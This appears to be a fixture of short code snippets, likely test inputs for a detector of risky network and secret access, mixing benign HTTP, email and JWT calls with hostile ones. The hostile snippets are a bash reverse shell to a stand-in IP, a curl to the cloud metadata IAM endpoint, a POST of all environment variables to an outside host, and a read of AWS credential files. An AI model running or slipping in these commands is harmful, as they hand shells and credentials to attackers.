import requests
requests.get('https://example.org')
# ---
!curl http://169.254.169.254/latest/meta-data/iam/
# ---
import requests
requests.get(input(), timeout=9)
# ---
!bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
# ---
import os, requests
requests.post('https://example.org', data=dict(os.environ), timeout=9)
# ---
import requests
requests.post('https://hooks.slack.com/services/x', json={'a': 1}, timeout=9)
# ---
import smtplib
s = smtplib.SMTP('mail.example.org')
s.login(user, word)
# ---
import xmlrpc.client
p = xmlrpc.client.ServerProxy('https://example.org')
# ---
import os
print(os.environ['API_KEY'])
# ---
import os
print(os.environ)
# ---
!cat ~/.aws/credentials
# ---
import jwt
jwt.encode({'a': 1}, 'not-secret', algorithm='HS256')
